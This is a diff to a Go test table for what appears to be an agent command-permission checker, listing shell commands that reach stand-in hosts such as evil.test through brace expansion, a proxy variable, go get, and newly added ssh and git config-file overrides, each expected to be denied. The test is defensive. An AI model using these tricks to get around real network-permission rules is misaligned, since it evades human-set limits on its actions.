@@ -571,6 +571,8 @@ func TestUnconfinedBashHostsMeetWebFetchRules(t *testing.T) {
 		"curl 'http://f{x,y}.evil.test/'":                          "",
 		"p=c.evil.test:3128; https_proxy=$p curl https://ok.test/": "",
 		"go get g.evil.test/x":                                     "WebFetch(domain:*.evil.test)",
+		"ssh -F s.cfg ok.test id":                                  "",
+		"GIT_CONFIG_GLOBAL=g.cfg git clone https://ok.test/x":      "",
 	} {
 		res := decide(s.ID, cmd, true)
 		if behavior(res) != permission.Deny || res.Decision.Rule != rule || rule == "" && res.Decision.Step != "named_host" {
